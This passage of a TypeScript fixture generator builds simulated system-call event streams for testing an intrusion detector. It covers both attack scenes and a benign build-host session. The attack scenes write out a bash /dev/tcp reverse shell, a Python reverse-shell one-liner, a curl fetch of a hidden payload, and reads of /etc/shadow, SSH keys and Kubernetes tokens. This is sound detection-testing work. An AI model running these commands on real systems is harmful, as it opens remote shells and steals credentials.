    ], (p) => {
      s.open(p, token, "O_RDONLY|O_LARGEFILE", {
        raw: "/var/run/secrets/kubernetes.io/serviceaccount/token",
      });
    });
    s.run(sh, "/bin/cat", [
      "cat",
      "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
    ], (p) => {
      s.open(
        p,
        "/run/secrets/kubernetes.io/serviceaccount/..2026_11_27_17_02_11.3318419023/namespace",
        "O_RDONLY|O_LARGEFILE",
        { raw: "/var/run/secrets/kubernetes.io/serviceaccount/namespace" },
      );
    });
  },

  "shadow_file_read.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/usr/bin/sudo", ["sudo", "-v"], (p) => {
      s.open(p, "/etc/shadow", "O_RDONLY|O_CLOEXEC|O_LARGEFILE");
    });
    s.run(shell, "/usr/bin/cat", ["cat", "/etc/shadow"], (p) => {
      s.open(p, "/etc/shadow", "O_RDONLY|O_LARGEFILE");
    });
  },

  "ssh_private_key_read.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/usr/bin/ssh", ["ssh", "backup@10.20.0.7"], (p) => {
      s.open(p, "/root/.ssh/id_ed25519", "O_RDONLY|O_LARGEFILE");
      s.connect(p, 3, "10.20.0.7", 22);
    });
    s.run(shell, "/usr/bin/python3.11", ["python3", "/tmp/steal.py"], (p) => {
      s.open(p, "/root/.ssh/id_ed25519", "O_RDONLY|O_LARGEFILE|O_CLOEXEC");
      s.open(p, "/root/.ssh/id_ed25519.pub", "O_RDONLY|O_LARGEFILE|O_CLOEXEC");
    }, { cmdpath: "/usr/bin/python3" });
  },

  "hidden_file_created.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/usr/bin/curl", [
      "curl",
      "-so",
      "/usr/lib/x86_64-linux-gnu/.sysd",
      "http://198.51.100.23/s",
    ], (p) => {
      s.connect(p, 5, "198.51.100.23", 80);
      s.open(
        p,
        "/usr/lib/x86_64-linux-gnu/.sysd",
        "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE",
      );
    });
    // Editing /etc/hosts with vim leaves a swap file: expected.
    s.run(shell, "/usr/bin/vim.basic", ["vim", "/etc/hosts"], (p) => {
      s.open(p, "/etc/.hosts.swp", "O_RDWR|O_CREAT|O_EXCL|O_LARGEFILE");
      s.open(p, "/etc/hosts", "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE");
      s.unlinkat(p, "/etc/.hosts.swp");
    }, { cmdpath: "/usr/bin/vim" });
  },

  "kernel_recon.jsonl"(s) {
    const shell = hostShell(s);
    s.run(
      shell,
      "/usr/bin/grep",
      ["grep", "commit_creds", "/proc/kallsyms"],
      (p) => {
        s.open(p, "/proc/kallsyms", "O_RDONLY|O_LARGEFILE");
      },
    );
    s.run(shell, "/usr/bin/lsmod", ["lsmod"], (p) => {
      s.open(p, "/proc/modules", "O_RDONLY|O_LARGEFILE|O_CLOEXEC");
    }, { cmdpath: "/usr/sbin/lsmod" });
  },

  "self_deleting_executable.jsonl"(s) {
    const shell = hostShell(s);
    const dropper = s.fork(shell);
    s.exec(dropper, "/tmp/.X11-lock/systemd-helper", ["./systemd-helper"], {
      cmdpath: "./systemd-helper",
      static: true,
    });
    // Daemonise: the child carries on and deletes the binary.
    const daemon = s.fork(dropper);
    s.exit(dropper);
    s.unlinkat(daemon, "./systemd-helper");
    s.open(
      daemon,
      "/tmp/.X11-lock/.pid",
      "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE",
    );
    // Cleaning up a temporary file is not deleting itself.
    s.emit(daemon, "unlink", [[
      "pathname",
      "const char*",
      "/tmp/.X11-lock/.pid",
    ]]);
  },

  "reverse_shell_bash.jsonl"(s) {
    const shell = hostShell(s);
    // bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'
    s.run(shell, "/usr/bin/bash", [
      "bash",
      "-c",
      "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
    ], (outer) => {
      const inner = s.fork(outer);
      s.connect(inner, 3, "203.0.113.50", 4444);
      s.dup2(inner, 3, 1);
      s.close(inner, 3);
      s.dup2(inner, 1, 2);
      s.dup2(inner, 1, 0);
      s.exec(inner, "/usr/bin/bash", ["bash", "-i"], {
        cmdpath: "/bin/bash",
        stdinType: "S_IFSOCK",
        stdinPath: "",
      });
      // The attacker runs commands; `2>&1` in a child is the same shell.
      s.run(inner, "/usr/bin/id", ["id"]);
      const child = s.fork(inner);
      s.dup2(child, 1, 2);
      s.exec(child, "/usr/bin/ls", ["ls", "/root"], {
        stdinType: "S_IFSOCK",
        stdinPath: "",
      });
      s.exit(child);
      s.exit(inner);
    });
  },

  "reverse_shell_python.jsonl"(s) {
    const shell = hostShell(s);
    s.run(shell, "/usr/bin/python3.11", [
      "python3",
      "-c",
      "import socket,os,subprocess;s=socket.socket();s.connect(('2001:db8::7',8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])",
    ], (python) => {
      s.connect(python, 3, "2001:db8::7", 8443);
      s.dup2(python, 3, 0);
      s.dup2(python, 3, 1);
      s.dup2(python, 3, 2);
      s.run(python, "/usr/bin/dash", ["/bin/sh", "-i"], () => {}, {
        cmdpath: "/bin/sh",
        stdinType: "S_IFSOCK",
        stdinPath: "",
      });
    }, { cmdpath: "/usr/bin/python3" });
  },

  "benign_workload.jsonl"(s) {
    benignWorkload(s);
  },

  "program_starts.jsonl"(s) {
    programStarts(s);
  },

  "program_starts_no_exec_env.jsonl"(s) {
    s.execEnv = false;
    programStarts(s);
  },
};

/**
 * Program starts that the start-watching built-ins report, each once,
 * however the stream shows them: a web shell, binaries and a script run from
 * memory-backed paths (by execve, by execveat of a path, by execveat of a
 * memfd's descriptor, delivered out of order), a program started with
 * LD_PRELOAD by execvp after two failed calls along PATH; and an ordinary
 * command.
 */
function programStarts(s: Stream): void {
  const worker = s.existing(HOST, {
    pid: 815,
    hostPid: 815,
    ppid: 812,
    hostPpid: 812,
    uid: 33,
    comm: "nginx",
    exe: "/usr/sbin/nginx",
  });
  s.run(worker, "/usr/bin/dash", ["sh", "-c", "id"], () => {}, {
    cmdpath: "/bin/sh",
    stdinPath: "/dev/null",
  });
  const shell = hostShell(s);
  const shm = { dev: TMPFS_DEV, static: true };
  s.run(shell, "/dev/shm/.x", ["/dev/shm/.x"], () => {}, shm);
  s.run(shell, "/usr/bin/dash", ["/dev/shm/upd.sh"], () => {}, {
    cmdpath: "/dev/shm/upd.sh",
    script: "/usr/bin/dash",
  });
  s.run(shell, "/dev/shm/.y", ["/dev/shm/.y"], () => {}, {
    ...shm,
    call: { dirfd: -100, pathname: "/dev/shm/.y", flags: "" },
  });
  s.run(shell, "memfd:kworker", ["[kworker/0:1]"], () => {}, {
    cmdpath: "/dev/fd/4",
    dev: 1,
    static: true,
    call: { dirfd: 4, pathname: "", flags: "AT_EMPTY_PATH" },
  });
  s.run(shell, "/run/shm/z", ["/run/shm/z"], () => {}, {
    ...shm,
    unsorted: true,
  });
  s.run(shell, "/usr/sbin/sshd", ["sshd", "-p", "2222"], () => {}, {
    env: ["LD_PRELOAD=/tmp/.l/libsys.so", "HOME=/root"],
    tries: ["/usr/local/sbin/sshd", "/usr/local/bin/sshd"],
  });
  s.run(shell, "/usr/bin/ls", ["ls", "/dev/shm"]);
}

/**
 * A working session on a build host: log in over SSH, update and install
 * packages, edit a file, clone and build a project with git, make and gcc,
 * run its tests under Python, push over SSH, start a container.
 */
function benignWorkload(s: Stream): void {
  const sshd = s.existing(HOST, {
    pid: 1204,
    hostPid: 1204,
    ppid: 1,
    hostPpid: 1,
    uid: 0,
    comm: "sshd-session",
    exe: "/usr/lib/openssh/sshd-session",
  });
  // Authentication and the login shell.
  s.open(sshd, "/etc/shadow", "O_RDONLY|O_CLOEXEC|O_LARGEFILE");
  s.open(sshd, "/etc/ssh/ssh_host_ed25519_key", "O_RDONLY|O_LARGEFILE");
  const login = s.fork(sshd);
  login.uid = 1000;
  s.exec(login, "/usr/bin/bash", ["-bash"], {
    env: [
      "SHELL=/bin/bash",
      "HOME=/home/dev",
      "LOGNAME=dev",
      "TERM=xterm-256color",
      "LANG=C.UTF-8",
    ],
  });
  s.open(login, "/home/dev/.bashrc", "O_RDONLY|O_LARGEFILE");
  s.open(login, "/home/dev/.bash_history", "O_RDONLY|O_LARGEFILE");
  s.run(login, "/usr/bin/ls", ["ls", "-la"]);
  s.run(login, "/usr/bin/cat", ["cat", "/etc/os-release"], (p) => {
    s.open(p, "/usr/lib/os-release", "O_RDONLY|O_LARGEFILE", {
      raw: "/etc/os-release",
    });
  });

  // sudo -i: PAM reads /etc/shadow, then a root shell.
  const sudo = s.fork(login);
  s.exec(sudo, "/usr/bin/sudo", ["sudo", "-i"]);
  s.open(sudo, "/etc/sudoers", "O_RDONLY|O_LARGEFILE");
  s.open(sudo, "/etc/shadow", "O_RDONLY|O_CLOEXEC|O_LARGEFILE");
  s.run(sudo, "/usr/sbin/unix_chkpwd", [
    "/usr/sbin/unix_chkpwd",
    "dev",
    "chkexpiry",
  ], (p) => {
    s.open(p, "/etc/shadow", "O_RDONLY|O_CLOEXEC|O_LARGEFILE");
  }, { stdinType: "S_IFIFO", stdinPath: "" });
  const root = s.fork(sudo);
  root.uid = 0;
  s.exec(root, "/usr/bin/bash", ["-bash"], {
    env: [
      "SHELL=/bin/bash",
      "HOME=/root",
      "LOGNAME=root",
      "SUDO_USER=dev",
      "TERM=xterm-256color",
    ],
  });

  // apt-get update && apt-get install -y openssh-server
  const apt = s.fork(root);
  s.exec(apt, "/usr/bin/apt-get", [
    "apt-get",
    "install",
    "-y",
    "openssh-server",
  ]);
  s.open(
    apt,
    "/var/lib/apt/lists/lock",
    "O_RDWR|O_CREAT|O_NOFOLLOW|O_LARGEFILE|O_CLOEXEC",
  );
  s.run(
    apt,
    "/usr/lib/apt/methods/http",
    ["/usr/lib/apt/methods/http"],
    (http) => {
      s.connect(http, 3, "151.101.2.132", 80);
      s.connect(http, 4, "2a04:4e42::644", 80);
      s.open(
        http,
        "/var/cache/apt/archives/partial/openssh-server_1%3a9.2p1-2+deb12u3_amd64.deb",
        "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE",
      );
    },
    { stdinType: "S_IFIFO", stdinPath: "" },
  );
  s.run(apt, "/usr/bin/gpgv", [
    "/usr/bin/gpgv",
    "--status-fd",
    "3",
    "/tmp/apt.sig",
  ], (p) => {
    s.open(
      p,
      "/etc/apt/trusted.gpg.d/debian-archive-bookworm-automatic.asc",
      "O_RDONLY|O_LARGEFILE",
    );
  });
  const dpkg = s.fork(apt);
  s.exec(dpkg, "/usr/bin/dpkg", [
    "/usr/bin/dpkg",
    "--status-fd",
    "22",
    "--unpack",
    "--auto-deconfigure",
    "/var/cache/apt/archives/openssh-server_1%3a9.2p1-2+deb12u3_amd64.deb",
  ], {
    stdinType: "S_IFIFO",
    stdinPath: "",
  });
  s.open(dpkg, "/var/lib/dpkg/lock-frontend", "O_RDWR|O_CREAT|O_LARGEFILE");
  s.run(dpkg, "/usr/bin/dpkg-deb", [
    "dpkg-deb",
    "--fsys-tarfile",
    "/var/cache/apt/archives/openssh-server.deb",
  ]);
  for (
    const file of [
      "/usr/sbin/sshd.dpkg-new",
      "/usr/lib/openssh/sshd-session.dpkg-new",
    ]
  ) {
    const inode = s.inode();
    s.open(dpkg, file, "O_WRONLY|O_CREAT|O_EXCL|O_LARGEFILE", { inode });
    s.write(dpkg, file, ELF_HEADER, 65536, inode);
  }
  s.open(
    dpkg,
    "/etc/skel/.bashrc.dpkg-new",
    "O_WRONLY|O_CREAT|O_EXCL|O_LARGEFILE",
  );
  s.unlinkat(dpkg, "/usr/sbin/sshd.dpkg-old");
  // The maintainer script: a system user, host keys, a service restart.
  const postinst = s.fork(dpkg);
  s.exec(postinst, "/usr/bin/dash", [
    "/bin/sh",
    "/var/lib/dpkg/info/openssh-server.postinst",
    "configure",
  ], {
    cmdpath: "/var/lib/dpkg/info/openssh-server.postinst",
    script: "/usr/bin/dash",
    stdinType: "S_IFIFO",
    stdinPath: "",
  });
  s.run(postinst, "/usr/sbin/useradd", ["useradd", "--system", "sshd"], (p) => {
    s.open(p, "/etc/.pwd.lock", "O_WRONLY|O_CREAT|O_CLOEXEC|O_LARGEFILE");
    s.open(p, "/etc/shadow", "O_RDONLY|O_CLOEXEC|O_LARGEFILE");
    s.open(p, "/etc/shadow+", "O_WRONLY|O_CREAT|O_EXCL|O_LARGEFILE");
  });
  s.run(postinst, "/usr/bin/ssh-keygen", ["ssh-keygen", "-A"], (p) => {
    s.open(
      p,
      "/etc/ssh/ssh_host_ed25519_key",
      "O_WRONLY|O_CREAT|O_EXCL|O_LARGEFILE",
    );
    s.open(p, "/etc/ssh/ssh_host_ed25519_key", "O_RDONLY|O_LARGEFILE");
  });
  s.run(postinst, "/usr/sbin/ldconfig", ["/sbin/ldconfig"], (p) => {
    s.open(
      p,
      "/etc/ld.so.cache~",
      "O_RDWR|O_CREAT|O_TRUNC|O_NOFOLLOW|O_LARGEFILE",
    );
  }, { cmdpath: "/sbin/ldconfig", static: true });
  s.run(postinst, "/usr/bin/systemctl", [
    "systemctl",
    "restart",
    "ssh.service",
  ]);
  s.exit(postinst);
  s.exit(dpkg);
  s.exit(apt);

  // Edit a configuration file.
  s.run(root, "/usr/bin/vim.basic", ["vim", "/etc/ssh/sshd_config"], (p) => {
    s.open(p, "/etc/ssh/.sshd_config.swp", "O_RDWR|O_CREAT|O_EXCL|O_LARGEFILE");
    s.open(p, "/etc/ssh/sshd_config", "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE");
    s.unlinkat(p, "/etc/ssh/.sshd_config.swp");
  }, { cmdpath: "/usr/bin/vim" });
  s.exit(root);
  s.exit(sudo);

  // git clone over HTTPS and over SSH.
  s.run(login, "/usr/bin/git", [
    "git",
    "clone",
    "https://github.com/example/libwidget.git",
  ], (git) => {
    s.run(git, "/usr/lib/git-core/git-remote-https", [
      "git-remote-https",
      "origin",
      "https://github.com/example/libwidget.git",
    ], (remote) => {
      s.connect(remote, 5, "140.82.121.4", 443);
    }, { stdinType: "S_IFIFO", stdinPath: "" });
    s.open(
      git,
      "/home/dev/libwidget/.git/config",
      "O_WRONLY|O_CREAT|O_EXCL|O_LARGEFILE",
    );
    s.open(
      git,
      "/home/dev/libwidget/.gitignore",
      "O_WRONLY|O_CREAT|O_EXCL|O_LARGEFILE",
    );
  });
  s.run(
    login,
    "/usr/bin/git",
    ["git", "-C", "libwidget", "fetch", "upstream"],
    (git) => {
      const ssh = s.fork(git);
      s.dup2(ssh, 5, 0);
      s.dup2(ssh, 6, 1);
      s.exec(ssh, "/usr/bin/ssh", [
        "ssh",
        "-o",
        "SendEnv=GIT_PROTOCOL",
        "git@github.com",
        "git-upload-pack 'example/libwidget.git'",
      ], {
        stdinType: "S_IFIFO",
        stdinPath: "",
      });
      s.open(ssh, "/home/dev/.ssh/id_ed25519", "O_RDONLY|O_LARGEFILE");
      s.connect(ssh, 3, "140.82.121.3", 22);
      s.exit(ssh);
    },
  );

  // ./configure && make && make check
  s.run(login, "/usr/bin/dash", [
    "/bin/sh",
    "./configure",
    "--prefix=/usr/local",
  ], (configure) => {
    s.run(
      configure,
      "/usr/bin/gcc-12",
      ["gcc", "-o", "conftest", "conftest.c"],
      (gcc) => {
        s.run(gcc, "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", [
          "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1",
          "conftest.c",
          "-o",
          "/tmp/ccQ1x2.s",
        ], (cc1) => {
          s.open(cc1, "/tmp/ccQ1x2.s", "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE");
        });
        s.run(gcc, "/usr/bin/x86_64-linux-gnu-ld.bfd", [
          "/usr/bin/ld",
          "-o",
          "conftest",
          "/tmp/ccQ1x2.o",
        ], (ld) => {
          const inode = s.inode();
          s.open(
            ld,
            "/home/dev/libwidget/conftest",
            "O_RDWR|O_CREAT|O_TRUNC|O_LARGEFILE",
            { inode },
          );
          s.write(ld, "/home/dev/libwidget/conftest", ELF_HEADER, 15952, inode);
        }, { cmdpath: "/usr/bin/ld" });
      },
      { cmdpath: "/usr/bin/gcc" },
    );
    s.run(configure, "/home/dev/libwidget/conftest", ["./conftest"], () => {}, {
      cmdpath: "./conftest",
    });
    s.unlinkat(configure, "conftest");
    const status = s.inode();
    s.open(
      configure,
      "/home/dev/libwidget/config.status",
      "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE",
      { inode: status },
    );
    s.write(
      configure,
      "/home/dev/libwidget/config.status",
      textBytes("#! /bin/sh\n# Generated by configure.\n"),
      41233,
      status,
    );
  }, { cmdpath: "./configure", script: "/usr/bin/dash" });

  s.run(login, "/usr/bin/make", ["make", "-j4", "check"], (make) => {
    for (const unit of ["widget", "parse", "render"]) {
      s.run(make, "/usr/bin/dash", [
        "/bin/sh",
        "-c",
        `gcc -O2 -c ${unit}.c -o ${unit}.o`,
      ], (sh) => {
        s.run(sh, "/usr/bin/gcc-12", [
          "gcc",
          "-O2",
          "-c",
          `${unit}.c`,
          "-o",
          `${unit}.o`,
        ], (gcc) => {
          s.open(gcc, `/home/dev/libwidget/${unit}.c`, "O_RDONLY|O_LARGEFILE");
          s.run(gcc, "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", [
            "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1",
            `${unit}.c`,
          ], () => {});
          s.run(
            gcc,
            "/usr/bin/x86_64-linux-gnu-as",
            ["as", "-o", `${unit}.o`],
            (as) => {
              s.open(
                as,
                `/home/dev/libwidget/${unit}.o`,
                "O_RDWR|O_CREAT|O_TRUNC|O_LARGEFILE",
              );
            },
            { cmdpath: "/usr/bin/as" },
          );
        }, { cmdpath: "/usr/bin/gcc" });
      }, { cmdpath: "/bin/sh", stdinType: "S_IFIFO", stdinPath: "" });
    }
    s.run(make, "/usr/bin/x86_64-linux-gnu-ld.bfd", [
      "/usr/bin/ld",
      "-shared",
      "-o",
      ".libs/libwidget.so.1.0.0",
    ], (ld) => {
      const inode = s.inode();
      s.open(
        ld,
        "/home/dev/libwidget/.libs/libwidget.so.1.0.0",
        "O_RDWR|O_CREAT|O_TRUNC|O_LARGEFILE",
        { inode },
      );
      s.write(
        ld,
        "/home/dev/libwidget/.libs/libwidget.so.1.0.0",
        ELF_HEADER,
        98304,
        inode,
      );
    }, { cmdpath: "/usr/bin/ld" });
    // libtool's wrapper runs the tests against the uninstalled library.
    s.run(
      make,
      "/home/dev/libwidget/tests/.libs/test_widget",
      ["/home/dev/libwidget/tests/.libs/test_widget"],
      () => {},
      {
        env: [
          "LD_LIBRARY_PATH=/home/dev/libwidget/.libs:",
          "PATH=/usr/local/bin:/usr/bin:/bin",
        ],
        stdinType: "S_IFIFO",
        stdinPath: "",
      },
    );
  });

  // Python: a test script that talks to a database and runs helpers.
  s.run(
    login,
    "/usr/bin/python3.11",
    ["python3", "tools/check_db.py"],
    (python) => {
      s.open(
        python,
        "/home/dev/libwidget/tools/check_db.py",
        "O_RDONLY|O_LARGEFILE|O_CLOEXEC",
        { raw: "tools/check_db.py" },
      );
      s.connect(python, 3, "10.20.0.15", 5432);
      s.run(python, "/usr/bin/git", ["git", "rev-parse", "HEAD"]);
      const sh = s.fork(python);
      s.dup2(sh, 4, 1);
      s.exec(sh, "/usr/bin/dash", ["/bin/sh", "-c", "uname -r"], {
        cmdpath: "/bin/sh",
      });
      s.run(sh, "/usr/bin/uname", ["uname", "-r"]);
      s.exit(sh);
      s.open(
        python,
        "/home/dev/.cache/pip/http-v2/selfcheck.json",
        "O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE|O_CLOEXEC",
      );
    },
    { cmdpath: "/usr/bin/python3" },
  );

  // git push over SSH, then log out.
  s.run(login, "/usr/bin/git", ["git", "push", "origin", "main"], (git) => {
    s.run(git, "/usr/bin/ssh", [
      "ssh",
      "git@github.com",
      "git-receive-pack 'example/libwidget.git'",
    ], (ssh) => {
      s.open(ssh, "/home/dev/.ssh/id_ed25519", "O_RDONLY|O_LARGEFILE");
      s.connect(ssh, 3, "140.82.121.3", 22);
    }, { stdinType: "S_IFIFO", stdinPath: "" });
  });
  benignContainers(s, login);
  s.open(
    login,
    "/home/dev/.bash_history",
    "O_WRONLY|O_CREAT|O_APPEND|O_LARGEFILE",
  );
  s.exit(login);
}

const NGINX_CONTAINER = containerPlace(
  "8e2f5c1d9a7b3e6f0c4d2a8b1e5f9c3d7a0b6e2f4c8d1a5b9e3f7c0d2a6b4e81",
  "web-test",
  "docker.io/library/nginx:1.27",
);

/**
 * `docker run -d nginx` (runc re-executing itself from a memfd on the host,
 * its set-up mounts, the entrypoint script), requests to nginx, a
 * `docker exec` shell reading the configuration, and a kube-proxy pod
 * reading its service-account token.
 */
function benignContainers(s: Stream, login: Process): void {
  s.run(login, "/usr/bin/docker", [
    "docker",
    "run",
    "-d",
    "-p",
    "8080:80",
    "nginx:1.27",
  ], (docker) => {
    s.emit(docker, "connect", [
      ["sockfd", "int", 3],
      ["addr", "struct sockaddr*", {
        sa_family: "AF_UNIX",
        sun_path: "/run/docker.sock",
      }],
      ["addrlen", "int", 110],
    ]);
  });
  const shim = s.existing(HOST, {
    pid: 31852,
    hostPid: 31852,
    ppid: 1,
    hostPpid: 1,
    uid: 0,
    comm: "containerd-shim",
    exe: "/usr/bin/containerd-shim-runc-v2",
  });
  const runc = s.fork(shim);
  s.exec(runc, "/usr/bin/runc", [
    "runc",
    "--root",
    "/var/run/docker/runtime-runc/moby",
    "create",
    NGINX_CONTAINER.containerId,
  ], { stdinType: "S_IFIFO", stdinPath: "" });
  const init = s.fork(runc);
  s.exec(init, "memfd:runc_cloned:/proc/self/exe", ["runc", "init"], {
    cmdpath: "/proc/self/exe",
    dev: 1,
    static: true,
    stdinType: "S_IFIFO",
    stdinPath: "",
  });
  const setup: Process = {
    ...init,
    place: { ...NGINX_CONTAINER, containerStarted: false },
    pid: 1,
    ppid: 0,
    comm: "runc:[2:INIT]",
  };
  for (
    const [device, path, type, flags] of [
      ["proc", "/proc", "proc", 14],
      ["tmpfs", "/dev", "tmpfs", 16777218],
      ["/dev/null", "/proc/kcore", "", 20480],
      ["/dev/null", "/proc/timer_list", "", 20480],
      ["/dev/mapper/vg0-root", "/etc/resolv.conf", "", 20480],
    ] as const
  ) {
    s.emit(setup, "security_sb_mount", [
      ["dev_name", "const char*", device],
      ["path", "const char*", path],
      ["type", "const char*", type],
      ["flags", "unsigned long", flags],
    ], { syscall: "mount" });
  }
  const entry: Process = { ...setup, place: NGINX_CONTAINER };
  s.exec(entry, "/usr/bin/dash", [
    "/bin/sh",
    "/docker-entrypoint.sh",
    "nginx",
    "-g",
    "daemon off;",
  ], {
    cmdpath: "/docker-entrypoint.sh",
    script: "/usr/bin/dash",
    stdinPath: "/dev/null",
  });
  s.run(
    entry,
    "/usr/bin/find",
    ["find", "/docker-entrypoint.d/", "-mindepth", "1"],
    () => {},
    {
      stdinPath: "/dev/null",
    },
  );
  s.run(entry, "/usr/bin/dash", [
    "/bin/sh",
    "/docker-entrypoint.d/20-envsubst-on-templates.sh",
  ], (script) => {
    s.open(
      script,
      "/etc/nginx/templates",
      "O_RDONLY|O_NONBLOCK|O_LARGEFILE|O_DIRECTORY|O_CLOEXEC",
    );
  }, {
    cmdpath: "/docker-entrypoint.d/20-envsubst-on-templates.sh",
    script: "/usr/bin/dash",
    stdinPath: "/dev/null",
  });
  s.exec(entry, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"], {
    stdinPath: "/dev/null",
  });
  s.open(entry, "/etc/nginx/nginx.conf", "O_RDONLY|O_LARGEFILE");
  s.open(entry, "/run/nginx.pid", "O_RDWR|O_CREAT|O_TRUNC|O_LARGEFILE");
  for (let worker = 0; worker < 2; worker++) {
    const child = s.fork(entry);
    child.uid = 101;
    s.open(
      child,
      "/usr/share/nginx/html/index.html",
      "O_RDONLY|O_NONBLOCK|O_LARGEFILE",
    );
    s.open(
      child,
      "/var/log/nginx/access.log",
      "O_WRONLY|O_CREAT|O_APPEND|O_LARGEFILE",
    );
  }
  const sh = containerShell(s, NGINX_CONTAINER);
  s.run(
    sh,
    "/usr/bin/cat",
    ["cat", "/etc/nginx/conf.d/default.conf"],
    (cat) => {
      s.open(cat, "/etc/nginx/conf.d/default.conf", "O_RDONLY|O_LARGEFILE");
    },
  );
  s.exit(sh);

  const proxy = s.existing(POD_CONTAINER, {
    pid: 1,
    hostPid: 30112,
    ppid: 0,
    hostPpid: 30090,
    uid: 0,
    comm: "kube-proxy",
    exe: "/usr/local/bin/kube-proxy",
  });
  s.open(
    proxy,
    "/run/secrets/kubernetes.io/serviceaccount/..2026_11_27_17_02_11.3318419023/token",
    "O_RDONLY|O_CLOEXEC|O_LARGEFILE",
    {
      raw: "/var/run/secrets/kubernetes.io/serviceaccount/token",
    },
  );
  s.connect(proxy, 7, "10.96.0.1", 443);
}

/** Every fixture file's lines, by file name. */
export function buildFixtures(): Map<string, string[]> {
  const files = new Map<string, string[]>();
  Object.entries(SCENES).forEach(([name, scene], index) => {
    files.set(name, stream(index, scene));
  });
  return files;
}

if (import.meta.main) {
  const dir = new URL("../tests/fixtures/events/", import.meta.url);
  for (const [name, lines] of buildFixtures()) {
    await Deno.writeTextFile(new URL(name, dir), lines.join("\n") + "\n");
  }
}
